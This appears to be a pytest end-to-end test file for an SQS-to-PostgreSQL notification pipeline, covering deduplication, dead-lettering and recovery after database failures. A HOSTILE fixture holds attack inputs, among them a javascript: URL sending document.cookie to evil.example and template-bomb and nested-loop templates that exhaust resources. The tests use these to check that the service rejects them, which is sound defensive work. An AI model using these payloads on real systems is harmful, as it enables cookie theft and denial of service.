"""End to end: boto3 → SQS (moto over HTTP) → `notif poll` → Redis → `dramatiq notif.actors` → PostgreSQL.

Real processes, real services. Producers are paced so that moto's queues stay shallow.
"""
import json
from collections import Counter

import pytest

from helpers import drain, pg_query, queue_counts, wait_until
from notif.models import Delivery, Notification

pytestmark = pytest.mark.e2e

REPORT_VARS = {"submitterName": "Ana", "branchName": "North", "reportId": 7}


@pytest.fixture
def stack(processes):
    """A poller and a worker (1 process × 4 threads) against this test's queues and database."""
    processes.start_worker()
    processes.start_poller()
    return processes


def send_paced(sqs, url, bodies, max_depth=30):
    """Send in batches of 10, waiting while the queue is deeper than ``max_depth``."""
    for start in range(0, len(bodies), 10):
        wait_until(lambda: sum(queue_counts(sqs, url)) <= max_depth, 60, 0.05, "the queue to drain")
        entries = [{"Id": str(i), "MessageBody": b} for i, b in enumerate(bodies[start:start + 10])]
        response = sqs.send_message_batch(QueueUrl=url, Entries=entries)
        assert not response.get("Failed")


def malformed(i):
    kinds = [
        "{not json",
        json.dumps({"title": "no recipient", "message": "m"}),
        json.dumps({"user_id": "u", "type": "NO_SUCH_TEMPLATE"}),
        json.dumps({"user_id": "u", "type": "REPORT_SUBMITTED", "variables": {"submitterName": "Ana"}}),
        json.dumps({"user_id": "u", "title": "t", "message": "m", "priority": "urgent"}),
    ]
    return kinds[i % len(kinds)]


def test_300_messages_end_as_one_notification_per_key_and_recipient(stack, sqs, queues, pg):
    expected = {}  # (key, user) -> priority
    plan = {"high": [], "normal": [], "low": []}
    bad_bodies = []
    for p_index, priority in enumerate(plan):
        bodies = plan[priority]
        for i in range(80):
            key = f"{priority}-{i}"
            if i % 8 == 0:  # a template, two recipients
                body = {"id": key, "type": "REPORT_SUBMITTED", "variables": REPORT_VARS,
                        "recipients": [f"user-{i % 7}", {"user_id": f"user-{(i + 1) % 7}", "email": "x@example.com"}]}
                users = [f"user-{i % 7}", f"user-{(i + 1) % 7}"]
            else:
                body = {"id": key, "user_id": f"user-{i % 7}", "title": f"{priority} {i}", "message": "hello"}
                users = [f"user-{i % 7}"]
            bodies.append(json.dumps(body))
            for user in users:
                expected[(key, user)] = priority
        bodies += [bodies[j] for j in range(0, 50, 5)]  # 10 duplicates per queue
        for j in range(10):
            bad = malformed(j + p_index)
            bad_bodies.append(bad)
            bodies.append(bad)
    assert sum(len(b) for b in plan.values()) == 300

    # interleave the three producers so every queue is busy at once
    for start in range(0, 100, 20):
        for priority, bodies in plan.items():
            send_paced(sqs, queues[priority], bodies[start:start + 20])

    wait_until(lambda: Notification.select().count() >= len(expected) and
               sum(queue_counts(sqs, queues["dlq"])) >= 30, 120, 0.25, "every message to be stored or dead-lettered")
    wait_until(lambda: all(queue_counts(sqs, queues[p]) == (0, 0) for p in plan), 60, 0.25, "the input queues to empty")
    wait_until(lambda: Delivery.select().where(Delivery.status == "pending").count() == 0, 60, 0.25,
               "every delivery to be sent")

    rows = pg_query(pg, "SELECT key, user_id, priority FROM notif_notification")
    assert Counter((k, u) for k, u, _ in rows) == Counter(expected.keys())  # exactly once each
    assert {(k, u): p for k, u, p in rows} == expected  # priority of the queue it came from
    statuses = Counter(d.status for d in Delivery.select().where(Delivery.channel == "in_app"))
    assert statuses == {"sent": len(expected)}

    letters = drain(sqs, queues["dlq"])
    assert sorted(m["Body"] for m in letters) == sorted(bad_bodies)
    for letter in letters:
        attributes = letter["MessageAttributes"]
        assert attributes["notif_reason"]["StringValue"]
        assert attributes["notif_error"]["StringValue"] in {"invalid_message", "template_error"}


@pytest.fixture
def blocked_user(pg):
    pg_query(pg, """
        CREATE OR REPLACE FUNCTION notif_e2e_block() RETURNS trigger AS $$
        BEGIN IF NEW.user_id = 'blocked' THEN RAISE EXCEPTION 'database unavailable for blocked'; END IF;
        RETURN NEW; END $$ LANGUAGE plpgsql;
        CREATE TRIGGER notif_e2e_block BEFORE INSERT ON notif_notification
          FOR EACH ROW EXECUTE FUNCTION notif_e2e_block();""")
    yield lambda: pg_query(pg, "DROP TRIGGER IF EXISTS notif_e2e_block ON notif_notification")
    pg_query(pg, "DROP TRIGGER IF EXISTS notif_e2e_block ON notif_notification; "
                 "DROP FUNCTION IF EXISTS notif_e2e_block()")


def test_a_message_whose_write_fails_stays_on_sqs_until_it_can_be_stored(stack, sqs, queues, pg, blocked_user):
    bodies = [json.dumps({"id": "b", "user_id": "blocked", "title": "t", "message": "m"})]
    bodies += [json.dumps({"id": f"g{i}", "user_id": f"good-{i}", "title": "t", "message": "m"}) for i in range(5)]
    send_paced(sqs, queues["normal"], bodies)
    wait_until(lambda: Notification.select().count() == 5, 60, 0.2, "the five good messages")
    # the failed one is neither stored, nor deleted, nor dead-lettered: SQS still holds it
    assert Notification.select().where(Notification.user_id == "blocked").count() == 0
    # (the five are deleted just after their commit)
    wait_until(lambda: sum(queue_counts(sqs, queues["normal"])) == 1, 30, 0.1, "only the failed message left")
    assert sum(queue_counts(sqs, queues["dlq"])) == 0
    blocked_user()  # the database recovers
    wait_until(lambda: Notification.select().where(Notification.user_id == "blocked").count() == 1, 60, 0.2,
               "the blocked message to be stored after recovery")
    wait_until(lambda: queue_counts(sqs, queues["normal"]) == (0, 0), 60, 0.2, "the queue to empty")
    assert Notification.select().count() == 6


HOSTILE = {  # what an attacker with SQS access (or a careless producer) sends, and the field its dead letter names
    "nul": ('{"id": "nul", "user_id": "h", "title": "bad\\u0000title", "message": "m"}', "title"),
    "surrogate": ('{"id": "surrogate", "user_id": "h", "title": "t", "message": "\\ud800"}', "message"),
    "bomb": (json.dumps({"id": "bomb", "user_id": "h", "type": "BOMB", "variables": {"n": 10**9}}), "variables"),
    "loops": (json.dumps({"id": "loops", "user_id": "h", "type": "LOOPS", "variables": {"n": 10**4}}), "variables"),
    "js": (json.dumps({"id": "js", "user_id": "h", "type": "COMMENT_ADDED", "variables": {
        "authorName": "M", "comment": "c", "threadUrl": "javascript:fetch('//evil.example/'+document.cookie)"}}),
        "actions.0.url"),
}


def test_hostile_messages_are_dead_lettered_once_and_the_worker_carries_on(processes, sqs, queues, pg, tmp_path):
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "BOMB.toml").write_text("""title = 't'\nmessage = '{{ "x" * n }}'\n""")
    (templates / "LOOPS.toml").write_text(
        "title = 't'\nmessage = '{% for i in range(n) %}{% for j in range(n) %}x{% endfor %}{% endfor %}'\n")
    processes.env["NOTIF_TEMPLATES_DIR"] = str(templates)
    worker = processes.start_worker()
    processes.start_poller()
    good = [json.dumps({"id": f"good-{i}", "user_id": f"g{i}", "title": "t", "message": "m"}) for i in range(3)]
    send_paced(sqs, queues["normal"], [body for body, _ in HOSTILE.values()] + good)
    wait_until(lambda: sum(queue_counts(sqs, queues["dlq"])) == len(HOSTILE) and Notification.select().count() == 3,
               60, 0.2, "the hostile messages to be dead-lettered and the good ones stored")
    wait_until(lambda: queue_counts(sqs, queues["normal"]) == (0, 0), 30, 0.2, "the input queue to empty")
    letters = {json.loads(m["Body"].replace("\\u0000", "").replace("\\ud800", ""))["id"]: m["MessageAttributes"]
               for m in drain(sqs, queues["dlq"])}
    assert {key: a["notif_field"]["StringValue"] for key, a in letters.items()} == \
        {key: field for key, (_, field) in HOSTILE.items()}

    # the worker is still up and still working, and said nothing but the dead letters' reasons
    send_paced(sqs, queues["normal"], [json.dumps({"id": "after", "user_id": "g9", "title": "t", "message": "m"})])
    wait_until(lambda: Notification.select().where(Notification.key == "after").count() == 1, 30, 0.2,
               "a message sent after them to be stored")
    assert worker.poll() is None
    log = processes.log("worker")
    assert "Traceback" not in log and "could not be stored" not in log
    assert log.count('"message dead-lettered"') == len(HOSTILE)
